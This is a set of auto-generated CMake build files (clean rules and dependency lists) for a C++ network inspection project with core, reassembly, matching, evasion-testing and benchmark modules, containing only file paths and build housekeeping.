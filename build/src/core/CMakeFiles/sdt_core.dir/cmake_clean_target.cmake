file(REMOVE_RECURSE
  "libsdt_core.a"
)
