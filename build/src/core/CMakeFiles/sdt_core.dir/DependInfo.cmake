
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/conventional_ips.cpp" "src/core/CMakeFiles/sdt_core.dir/conventional_ips.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/conventional_ips.cpp.o.d"
  "/root/repo/src/core/engine.cpp" "src/core/CMakeFiles/sdt_core.dir/engine.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/engine.cpp.o.d"
  "/root/repo/src/core/fast_path.cpp" "src/core/CMakeFiles/sdt_core.dir/fast_path.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/fast_path.cpp.o.d"
  "/root/repo/src/core/report.cpp" "src/core/CMakeFiles/sdt_core.dir/report.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/report.cpp.o.d"
  "/root/repo/src/core/rules.cpp" "src/core/CMakeFiles/sdt_core.dir/rules.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/rules.cpp.o.d"
  "/root/repo/src/core/signature.cpp" "src/core/CMakeFiles/sdt_core.dir/signature.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/signature.cpp.o.d"
  "/root/repo/src/core/splitter.cpp" "src/core/CMakeFiles/sdt_core.dir/splitter.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/splitter.cpp.o.d"
  "/root/repo/src/core/validate.cpp" "src/core/CMakeFiles/sdt_core.dir/validate.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/validate.cpp.o.d"
  "/root/repo/src/core/verdict.cpp" "src/core/CMakeFiles/sdt_core.dir/verdict.cpp.o" "gcc" "src/core/CMakeFiles/sdt_core.dir/verdict.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/match/CMakeFiles/sdt_match.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sdt_net.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/sdt_pcap.dir/DependInfo.cmake"
  "/root/repo/build/src/reassembly/CMakeFiles/sdt_reassembly.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sdt_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
