# Empty compiler generated dependencies file for sdt_core.
# This may be replaced when dependencies are built.
