file(REMOVE_RECURSE
  "CMakeFiles/sdt_core.dir/conventional_ips.cpp.o"
  "CMakeFiles/sdt_core.dir/conventional_ips.cpp.o.d"
  "CMakeFiles/sdt_core.dir/engine.cpp.o"
  "CMakeFiles/sdt_core.dir/engine.cpp.o.d"
  "CMakeFiles/sdt_core.dir/fast_path.cpp.o"
  "CMakeFiles/sdt_core.dir/fast_path.cpp.o.d"
  "CMakeFiles/sdt_core.dir/report.cpp.o"
  "CMakeFiles/sdt_core.dir/report.cpp.o.d"
  "CMakeFiles/sdt_core.dir/rules.cpp.o"
  "CMakeFiles/sdt_core.dir/rules.cpp.o.d"
  "CMakeFiles/sdt_core.dir/signature.cpp.o"
  "CMakeFiles/sdt_core.dir/signature.cpp.o.d"
  "CMakeFiles/sdt_core.dir/splitter.cpp.o"
  "CMakeFiles/sdt_core.dir/splitter.cpp.o.d"
  "CMakeFiles/sdt_core.dir/validate.cpp.o"
  "CMakeFiles/sdt_core.dir/validate.cpp.o.d"
  "CMakeFiles/sdt_core.dir/verdict.cpp.o"
  "CMakeFiles/sdt_core.dir/verdict.cpp.o.d"
  "libsdt_core.a"
  "libsdt_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
