file(REMOVE_RECURSE
  "CMakeFiles/sdt_sim.dir/replay.cpp.o"
  "CMakeFiles/sdt_sim.dir/replay.cpp.o.d"
  "CMakeFiles/sdt_sim.dir/sharding.cpp.o"
  "CMakeFiles/sdt_sim.dir/sharding.cpp.o.d"
  "libsdt_sim.a"
  "libsdt_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
