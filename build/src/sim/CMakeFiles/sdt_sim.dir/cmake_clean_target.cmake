file(REMOVE_RECURSE
  "libsdt_sim.a"
)
