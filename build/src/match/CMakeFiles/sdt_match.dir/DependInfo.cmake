
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/match/aho_corasick.cpp" "src/match/CMakeFiles/sdt_match.dir/aho_corasick.cpp.o" "gcc" "src/match/CMakeFiles/sdt_match.dir/aho_corasick.cpp.o.d"
  "/root/repo/src/match/single_match.cpp" "src/match/CMakeFiles/sdt_match.dir/single_match.cpp.o" "gcc" "src/match/CMakeFiles/sdt_match.dir/single_match.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/sdt_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
