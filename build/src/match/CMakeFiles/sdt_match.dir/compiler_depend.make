# Empty compiler generated dependencies file for sdt_match.
# This may be replaced when dependencies are built.
