file(REMOVE_RECURSE
  "libsdt_match.a"
)
