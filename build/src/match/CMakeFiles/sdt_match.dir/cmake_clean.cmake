file(REMOVE_RECURSE
  "CMakeFiles/sdt_match.dir/aho_corasick.cpp.o"
  "CMakeFiles/sdt_match.dir/aho_corasick.cpp.o.d"
  "CMakeFiles/sdt_match.dir/single_match.cpp.o"
  "CMakeFiles/sdt_match.dir/single_match.cpp.o.d"
  "libsdt_match.a"
  "libsdt_match.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_match.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
