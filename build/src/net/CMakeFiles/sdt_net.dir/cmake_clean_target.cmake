file(REMOVE_RECURSE
  "libsdt_net.a"
)
