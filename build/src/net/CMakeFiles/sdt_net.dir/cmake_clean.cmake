file(REMOVE_RECURSE
  "CMakeFiles/sdt_net.dir/builder.cpp.o"
  "CMakeFiles/sdt_net.dir/builder.cpp.o.d"
  "CMakeFiles/sdt_net.dir/checksum.cpp.o"
  "CMakeFiles/sdt_net.dir/checksum.cpp.o.d"
  "CMakeFiles/sdt_net.dir/packet.cpp.o"
  "CMakeFiles/sdt_net.dir/packet.cpp.o.d"
  "CMakeFiles/sdt_net.dir/tcp_options.cpp.o"
  "CMakeFiles/sdt_net.dir/tcp_options.cpp.o.d"
  "libsdt_net.a"
  "libsdt_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
