# Empty dependencies file for sdt_net.
# This may be replaced when dependencies are built.
