file(REMOVE_RECURSE
  "CMakeFiles/sdt_reassembly.dir/ip_defrag.cpp.o"
  "CMakeFiles/sdt_reassembly.dir/ip_defrag.cpp.o.d"
  "CMakeFiles/sdt_reassembly.dir/tcp_reassembler.cpp.o"
  "CMakeFiles/sdt_reassembly.dir/tcp_reassembler.cpp.o.d"
  "libsdt_reassembly.a"
  "libsdt_reassembly.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_reassembly.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
