file(REMOVE_RECURSE
  "libsdt_reassembly.a"
)
