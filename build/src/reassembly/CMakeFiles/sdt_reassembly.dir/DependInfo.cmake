
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/reassembly/ip_defrag.cpp" "src/reassembly/CMakeFiles/sdt_reassembly.dir/ip_defrag.cpp.o" "gcc" "src/reassembly/CMakeFiles/sdt_reassembly.dir/ip_defrag.cpp.o.d"
  "/root/repo/src/reassembly/tcp_reassembler.cpp" "src/reassembly/CMakeFiles/sdt_reassembly.dir/tcp_reassembler.cpp.o" "gcc" "src/reassembly/CMakeFiles/sdt_reassembly.dir/tcp_reassembler.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/net/CMakeFiles/sdt_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sdt_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
