# Empty compiler generated dependencies file for sdt_reassembly.
# This may be replaced when dependencies are built.
