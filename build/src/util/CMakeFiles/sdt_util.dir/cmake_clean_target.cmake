file(REMOVE_RECURSE
  "libsdt_util.a"
)
