file(REMOVE_RECURSE
  "CMakeFiles/sdt_util.dir/bytes.cpp.o"
  "CMakeFiles/sdt_util.dir/bytes.cpp.o.d"
  "CMakeFiles/sdt_util.dir/rng.cpp.o"
  "CMakeFiles/sdt_util.dir/rng.cpp.o.d"
  "libsdt_util.a"
  "libsdt_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
