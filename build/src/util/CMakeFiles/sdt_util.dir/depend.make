# Empty dependencies file for sdt_util.
# This may be replaced when dependencies are built.
