file(REMOVE_RECURSE
  "CMakeFiles/sdt_pcap.dir/pcap.cpp.o"
  "CMakeFiles/sdt_pcap.dir/pcap.cpp.o.d"
  "CMakeFiles/sdt_pcap.dir/pcapng.cpp.o"
  "CMakeFiles/sdt_pcap.dir/pcapng.cpp.o.d"
  "libsdt_pcap.a"
  "libsdt_pcap.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_pcap.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
