file(REMOVE_RECURSE
  "libsdt_pcap.a"
)
