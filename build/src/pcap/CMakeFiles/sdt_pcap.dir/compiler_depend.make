# Empty compiler generated dependencies file for sdt_pcap.
# This may be replaced when dependencies are built.
