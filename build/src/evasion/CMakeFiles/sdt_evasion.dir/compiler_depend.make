# Empty compiler generated dependencies file for sdt_evasion.
# This may be replaced when dependencies are built.
