
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/evasion/corpus.cpp" "src/evasion/CMakeFiles/sdt_evasion.dir/corpus.cpp.o" "gcc" "src/evasion/CMakeFiles/sdt_evasion.dir/corpus.cpp.o.d"
  "/root/repo/src/evasion/flow_forge.cpp" "src/evasion/CMakeFiles/sdt_evasion.dir/flow_forge.cpp.o" "gcc" "src/evasion/CMakeFiles/sdt_evasion.dir/flow_forge.cpp.o.d"
  "/root/repo/src/evasion/traffic_gen.cpp" "src/evasion/CMakeFiles/sdt_evasion.dir/traffic_gen.cpp.o" "gcc" "src/evasion/CMakeFiles/sdt_evasion.dir/traffic_gen.cpp.o.d"
  "/root/repo/src/evasion/transforms.cpp" "src/evasion/CMakeFiles/sdt_evasion.dir/transforms.cpp.o" "gcc" "src/evasion/CMakeFiles/sdt_evasion.dir/transforms.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/sdt_core.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sdt_net.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/sdt_pcap.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sdt_util.dir/DependInfo.cmake"
  "/root/repo/build/src/match/CMakeFiles/sdt_match.dir/DependInfo.cmake"
  "/root/repo/build/src/reassembly/CMakeFiles/sdt_reassembly.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
