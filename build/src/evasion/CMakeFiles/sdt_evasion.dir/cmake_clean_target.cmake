file(REMOVE_RECURSE
  "libsdt_evasion.a"
)
