file(REMOVE_RECURSE
  "CMakeFiles/sdt_evasion.dir/corpus.cpp.o"
  "CMakeFiles/sdt_evasion.dir/corpus.cpp.o.d"
  "CMakeFiles/sdt_evasion.dir/flow_forge.cpp.o"
  "CMakeFiles/sdt_evasion.dir/flow_forge.cpp.o.d"
  "CMakeFiles/sdt_evasion.dir/traffic_gen.cpp.o"
  "CMakeFiles/sdt_evasion.dir/traffic_gen.cpp.o.d"
  "CMakeFiles/sdt_evasion.dir/transforms.cpp.o"
  "CMakeFiles/sdt_evasion.dir/transforms.cpp.o.d"
  "libsdt_evasion.a"
  "libsdt_evasion.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sdt_evasion.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
