# Empty dependencies file for bench_diversion_rate.
# This may be replaced when dependencies are built.
