file(REMOVE_RECURSE
  "../bench/bench_diversion_rate"
  "../bench/bench_diversion_rate.pdb"
  "CMakeFiles/bench_diversion_rate.dir/bench_diversion_rate.cpp.o"
  "CMakeFiles/bench_diversion_rate.dir/bench_diversion_rate.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_diversion_rate.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
