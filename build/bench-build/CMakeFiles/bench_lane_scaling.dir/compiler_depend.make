# Empty compiler generated dependencies file for bench_lane_scaling.
# This may be replaced when dependencies are built.
