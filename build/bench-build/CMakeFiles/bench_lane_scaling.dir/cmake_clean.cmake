file(REMOVE_RECURSE
  "../bench/bench_lane_scaling"
  "../bench/bench_lane_scaling.pdb"
  "CMakeFiles/bench_lane_scaling.dir/bench_lane_scaling.cpp.o"
  "CMakeFiles/bench_lane_scaling.dir/bench_lane_scaling.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_lane_scaling.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
