file(REMOVE_RECURSE
  "../bench/bench_state_memory"
  "../bench/bench_state_memory.pdb"
  "CMakeFiles/bench_state_memory.dir/bench_state_memory.cpp.o"
  "CMakeFiles/bench_state_memory.dir/bench_state_memory.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_state_memory.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
