file(REMOVE_RECURSE
  "../bench/bench_phase_ablation"
  "../bench/bench_phase_ablation.pdb"
  "CMakeFiles/bench_phase_ablation.dir/bench_phase_ablation.cpp.o"
  "CMakeFiles/bench_phase_ablation.dir/bench_phase_ablation.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_phase_ablation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
