file(REMOVE_RECURSE
  "../bench/bench_piece_fp"
  "../bench/bench_piece_fp.pdb"
  "CMakeFiles/bench_piece_fp.dir/bench_piece_fp.cpp.o"
  "CMakeFiles/bench_piece_fp.dir/bench_piece_fp.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_piece_fp.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
