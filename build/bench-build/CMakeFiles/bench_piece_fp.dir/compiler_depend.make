# Empty compiler generated dependencies file for bench_piece_fp.
# This may be replaced when dependencies are built.
