file(REMOVE_RECURSE
  "../bench/bench_anomaly_census"
  "../bench/bench_anomaly_census.pdb"
  "CMakeFiles/bench_anomaly_census.dir/bench_anomaly_census.cpp.o"
  "CMakeFiles/bench_anomaly_census.dir/bench_anomaly_census.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_anomaly_census.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
