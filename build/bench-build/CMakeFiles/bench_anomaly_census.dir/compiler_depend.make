# Empty compiler generated dependencies file for bench_anomaly_census.
# This may be replaced when dependencies are built.
