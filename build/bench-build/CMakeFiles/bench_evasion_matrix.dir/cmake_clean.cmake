file(REMOVE_RECURSE
  "../bench/bench_evasion_matrix"
  "../bench/bench_evasion_matrix.pdb"
  "CMakeFiles/bench_evasion_matrix.dir/bench_evasion_matrix.cpp.o"
  "CMakeFiles/bench_evasion_matrix.dir/bench_evasion_matrix.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_evasion_matrix.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
