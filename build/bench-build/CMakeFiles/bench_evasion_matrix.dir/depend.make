# Empty dependencies file for bench_evasion_matrix.
# This may be replaced when dependencies are built.
