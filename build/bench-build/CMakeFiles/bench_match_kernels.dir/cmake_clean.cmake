file(REMOVE_RECURSE
  "../bench/bench_match_kernels"
  "../bench/bench_match_kernels.pdb"
  "CMakeFiles/bench_match_kernels.dir/bench_match_kernels.cpp.o"
  "CMakeFiles/bench_match_kernels.dir/bench_match_kernels.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_match_kernels.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
