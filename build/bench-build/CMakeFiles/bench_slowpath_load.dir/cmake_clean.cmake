file(REMOVE_RECURSE
  "../bench/bench_slowpath_load"
  "../bench/bench_slowpath_load.pdb"
  "CMakeFiles/bench_slowpath_load.dir/bench_slowpath_load.cpp.o"
  "CMakeFiles/bench_slowpath_load.dir/bench_slowpath_load.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_slowpath_load.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
