# Empty dependencies file for bench_slowpath_load.
# This may be replaced when dependencies are built.
