file(REMOVE_RECURSE
  "../bench/bench_ac_memory"
  "../bench/bench_ac_memory.pdb"
  "CMakeFiles/bench_ac_memory.dir/bench_ac_memory.cpp.o"
  "CMakeFiles/bench_ac_memory.dir/bench_ac_memory.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ac_memory.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
