# Empty compiler generated dependencies file for bench_ac_memory.
# This may be replaced when dependencies are built.
