file(REMOVE_RECURSE
  "../bench/bench_overlap_policies"
  "../bench/bench_overlap_policies.pdb"
  "CMakeFiles/bench_overlap_policies.dir/bench_overlap_policies.cpp.o"
  "CMakeFiles/bench_overlap_policies.dir/bench_overlap_policies.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_overlap_policies.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
