# Empty compiler generated dependencies file for bench_overlap_policies.
# This may be replaced when dependencies are built.
