file(REMOVE_RECURSE
  "CMakeFiles/evasion_traffic_gen_test.dir/evasion/traffic_gen_test.cpp.o"
  "CMakeFiles/evasion_traffic_gen_test.dir/evasion/traffic_gen_test.cpp.o.d"
  "evasion_traffic_gen_test"
  "evasion_traffic_gen_test.pdb"
  "evasion_traffic_gen_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_traffic_gen_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
