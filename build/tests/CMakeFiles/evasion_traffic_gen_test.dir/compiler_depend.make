# Empty compiler generated dependencies file for evasion_traffic_gen_test.
# This may be replaced when dependencies are built.
