file(REMOVE_RECURSE
  "CMakeFiles/flow_flow_key_test.dir/flow/flow_key_test.cpp.o"
  "CMakeFiles/flow_flow_key_test.dir/flow/flow_key_test.cpp.o.d"
  "flow_flow_key_test"
  "flow_flow_key_test.pdb"
  "flow_flow_key_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/flow_flow_key_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
