# Empty compiler generated dependencies file for core_insertion_attacks_test.
# This may be replaced when dependencies are built.
