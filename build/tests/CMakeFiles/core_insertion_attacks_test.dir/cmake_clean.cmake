file(REMOVE_RECURSE
  "CMakeFiles/core_insertion_attacks_test.dir/core/insertion_attacks_test.cpp.o"
  "CMakeFiles/core_insertion_attacks_test.dir/core/insertion_attacks_test.cpp.o.d"
  "core_insertion_attacks_test"
  "core_insertion_attacks_test.pdb"
  "core_insertion_attacks_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_insertion_attacks_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
