# Empty compiler generated dependencies file for core_phase_split_test.
# This may be replaced when dependencies are built.
