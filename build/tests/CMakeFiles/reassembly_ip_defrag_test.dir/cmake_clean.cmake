file(REMOVE_RECURSE
  "CMakeFiles/reassembly_ip_defrag_test.dir/reassembly/ip_defrag_test.cpp.o"
  "CMakeFiles/reassembly_ip_defrag_test.dir/reassembly/ip_defrag_test.cpp.o.d"
  "reassembly_ip_defrag_test"
  "reassembly_ip_defrag_test.pdb"
  "reassembly_ip_defrag_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/reassembly_ip_defrag_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
