# Empty dependencies file for reassembly_ip_defrag_test.
# This may be replaced when dependencies are built.
