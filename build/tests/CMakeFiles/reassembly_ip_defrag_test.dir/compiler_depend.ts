# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for reassembly_ip_defrag_test.
