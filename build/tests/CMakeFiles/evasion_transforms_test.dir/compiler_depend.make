# Empty compiler generated dependencies file for evasion_transforms_test.
# This may be replaced when dependencies are built.
