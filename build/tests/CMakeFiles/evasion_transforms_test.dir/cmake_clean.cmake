file(REMOVE_RECURSE
  "CMakeFiles/evasion_transforms_test.dir/evasion/transforms_test.cpp.o"
  "CMakeFiles/evasion_transforms_test.dir/evasion/transforms_test.cpp.o.d"
  "evasion_transforms_test"
  "evasion_transforms_test.pdb"
  "evasion_transforms_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_transforms_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
