file(REMOVE_RECURSE
  "CMakeFiles/core_splitter_test.dir/core/splitter_test.cpp.o"
  "CMakeFiles/core_splitter_test.dir/core/splitter_test.cpp.o.d"
  "core_splitter_test"
  "core_splitter_test.pdb"
  "core_splitter_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_splitter_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
