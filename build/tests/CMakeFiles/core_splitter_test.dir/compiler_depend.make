# Empty compiler generated dependencies file for core_splitter_test.
# This may be replaced when dependencies are built.
