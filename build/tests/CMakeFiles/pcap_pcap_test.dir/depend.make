# Empty dependencies file for pcap_pcap_test.
# This may be replaced when dependencies are built.
