file(REMOVE_RECURSE
  "CMakeFiles/sim_sharding_test.dir/sim/sharding_test.cpp.o"
  "CMakeFiles/sim_sharding_test.dir/sim/sharding_test.cpp.o.d"
  "sim_sharding_test"
  "sim_sharding_test.pdb"
  "sim_sharding_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_sharding_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
