file(REMOVE_RECURSE
  "CMakeFiles/match_ac_serialize_test.dir/match/ac_serialize_test.cpp.o"
  "CMakeFiles/match_ac_serialize_test.dir/match/ac_serialize_test.cpp.o.d"
  "match_ac_serialize_test"
  "match_ac_serialize_test.pdb"
  "match_ac_serialize_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/match_ac_serialize_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
