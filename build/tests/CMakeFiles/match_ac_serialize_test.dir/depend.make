# Empty dependencies file for match_ac_serialize_test.
# This may be replaced when dependencies are built.
