file(REMOVE_RECURSE
  "CMakeFiles/net_seq_test.dir/net/seq_test.cpp.o"
  "CMakeFiles/net_seq_test.dir/net/seq_test.cpp.o.d"
  "net_seq_test"
  "net_seq_test.pdb"
  "net_seq_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/net_seq_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
