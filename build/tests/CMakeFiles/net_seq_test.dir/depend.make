# Empty dependencies file for net_seq_test.
# This may be replaced when dependencies are built.
