file(REMOVE_RECURSE
  "CMakeFiles/core_fast_path_test.dir/core/fast_path_test.cpp.o"
  "CMakeFiles/core_fast_path_test.dir/core/fast_path_test.cpp.o.d"
  "core_fast_path_test"
  "core_fast_path_test.pdb"
  "core_fast_path_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_fast_path_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
