file(REMOVE_RECURSE
  "CMakeFiles/reassembly_tcp_reassembler_test.dir/reassembly/tcp_reassembler_test.cpp.o"
  "CMakeFiles/reassembly_tcp_reassembler_test.dir/reassembly/tcp_reassembler_test.cpp.o.d"
  "reassembly_tcp_reassembler_test"
  "reassembly_tcp_reassembler_test.pdb"
  "reassembly_tcp_reassembler_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/reassembly_tcp_reassembler_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
