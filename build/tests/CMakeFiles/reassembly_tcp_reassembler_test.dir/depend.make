# Empty dependencies file for reassembly_tcp_reassembler_test.
# This may be replaced when dependencies are built.
