
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/core/validate_test.cpp" "tests/CMakeFiles/core_validate_test.dir/core/validate_test.cpp.o" "gcc" "tests/CMakeFiles/core_validate_test.dir/core/validate_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sim/CMakeFiles/sdt_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/evasion/CMakeFiles/sdt_evasion.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/sdt_core.dir/DependInfo.cmake"
  "/root/repo/build/src/reassembly/CMakeFiles/sdt_reassembly.dir/DependInfo.cmake"
  "/root/repo/build/src/match/CMakeFiles/sdt_match.dir/DependInfo.cmake"
  "/root/repo/build/src/pcap/CMakeFiles/sdt_pcap.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/sdt_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/sdt_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
