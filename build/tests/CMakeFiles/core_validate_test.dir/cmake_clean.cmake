file(REMOVE_RECURSE
  "CMakeFiles/core_validate_test.dir/core/validate_test.cpp.o"
  "CMakeFiles/core_validate_test.dir/core/validate_test.cpp.o.d"
  "core_validate_test"
  "core_validate_test.pdb"
  "core_validate_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_validate_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
