# Empty compiler generated dependencies file for pcap_pcapng_test.
# This may be replaced when dependencies are built.
