file(REMOVE_RECURSE
  "CMakeFiles/pcap_pcapng_test.dir/pcap/pcapng_test.cpp.o"
  "CMakeFiles/pcap_pcapng_test.dir/pcap/pcapng_test.cpp.o.d"
  "pcap_pcapng_test"
  "pcap_pcapng_test.pdb"
  "pcap_pcapng_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pcap_pcapng_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
