# Empty compiler generated dependencies file for core_theorem_test.
# This may be replaced when dependencies are built.
