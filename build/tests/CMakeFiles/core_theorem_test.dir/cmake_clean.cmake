file(REMOVE_RECURSE
  "CMakeFiles/core_theorem_test.dir/core/theorem_test.cpp.o"
  "CMakeFiles/core_theorem_test.dir/core/theorem_test.cpp.o.d"
  "core_theorem_test"
  "core_theorem_test.pdb"
  "core_theorem_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
